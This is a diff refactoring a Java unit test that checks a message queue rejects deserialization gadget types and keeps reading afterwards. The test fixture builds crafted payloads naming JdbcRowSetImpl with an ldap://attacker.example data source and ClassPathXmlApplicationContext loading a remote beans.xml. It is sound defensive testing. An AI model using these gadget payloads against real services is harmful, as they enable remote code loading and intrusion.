@@ -38,10 +38,22 @@ class GadgetRefusalTest {
         void note(Object anything);
     }
 
-    @Test
-    void shouldRefuseGadgetTypesNamedInADocumentAndKeepReading() {
-        List<Object> seen = new ArrayList<>();
-        Payments handler = new Payments() {
+    /** A card, two payments naming gadget types, a note naming one as plain data, and cash. */
+    private static void appendPaymentsAndGadgets(MappedQueue queue) {
+        Payments writer = Messages.methodWriter(queue.acquireAppender(), Payments.class);
+        writer.pay(new Card("4111"));
+        CraftedMessages.append(queue, "pay", Map.of("@class", "com.sun.rowset.JdbcRowSetImpl",
+                "dataSourceName", "ldap://attacker.example/x", "autoCommit", true));
+        CraftedMessages.append(queue, "pay",
+                Map.of("@class", "org.springframework.context.support.ClassPathXmlApplicationContext",
+                "configLocation", "http://attacker.example/beans.xml"));
+        // With no @JsonTypeInfo on the parameter, a type name in the data is plain data.
+        CraftedMessages.append(queue, "note", Map.of("@class", "com.sun.rowset.JdbcRowSetImpl"));
+        writer.pay(new Cash(250));
+    }
+
+    private static Payments collectInto(List<Object> seen) {
+        return new Payments() {
             @Override
             public void pay(Payment payment) {
                 seen.add(payment);
@@ -52,19 +64,14 @@ class GadgetRefusalTest {
                 seen.add(anything);
             }
         };
-        try (MappedQueue queue = MappedQueue.builder(dir).build()) {
-            Payments writer = Messages.methodWriter(queue.acquireAppender(), Payments.class);
-            writer.pay(new Card("4111"));
-            CraftedMessages.append(queue, "pay", Map.of("@class", "com.sun.rowset.JdbcRowSetImpl",
-                    "dataSourceName", "ldap://attacker.example/x", "autoCommit", true));
-            CraftedMessages.append(queue, "pay",
-                    Map.of("@class", "org.springframework.context.support.ClassPathXmlApplicationContext",
-                    "configLocation", "http://attacker.example/beans.xml"));
-            // With no @JsonTypeInfo on the parameter, a type name in the data is plain data.
-            CraftedMessages.append(queue, "note", Map.of("@class", "com.sun.rowset.JdbcRowSetImpl"));
-            writer.pay(new Cash(250));
+    }
 
-            MethodReader reader = Messages.methodReader(queue.createTailer(), handler);
+    @Test
+    void shouldRefuseGadgetTypesNamedInADocument() {
+        try (MappedQueue queue = MappedQueue.builder(dir).build()) {
+            appendPaymentsAndGadgets(queue);
+
+            MethodReader reader = Messages.methodReader(queue.createTailer(), collectInto(new ArrayList<>()));
             assertThat(reader.readOne()).isTrue();
             assertThatThrownBy(reader::readOne)
                     .isInstanceOf(MessageDecodingException.class)
@@ -74,6 +81,19 @@ class GadgetRefusalTest {
                     .isInstanceOf(MessageDecodingException.class)
                     .hasMessageContaining("type org.springframework.context.support.ClassPathXmlApplicationContext is "
                     + "not allowed here");
+        }
+    }
+
+    @Test
+    void shouldKeepReadingAfterRefusingGadgetTypes() {
+        List<Object> seen = new ArrayList<>();
+        try (MappedQueue queue = MappedQueue.builder(dir).build()) {
+            appendPaymentsAndGadgets(queue);
+
+            MethodReader reader = Messages.methodReader(queue.createTailer(), collectInto(seen));
+            assertThat(reader.readOne()).isTrue();
+            assertThatThrownBy(reader::readOne).isInstanceOf(MessageDecodingException.class);
+            assertThatThrownBy(reader::readOne).isInstanceOf(MessageDecodingException.class);
             assertThat(reader.readOne()).isTrue();
             assertThat(reader.readOne()).isTrue();
             assertThat(reader.readOne()).isFalse();
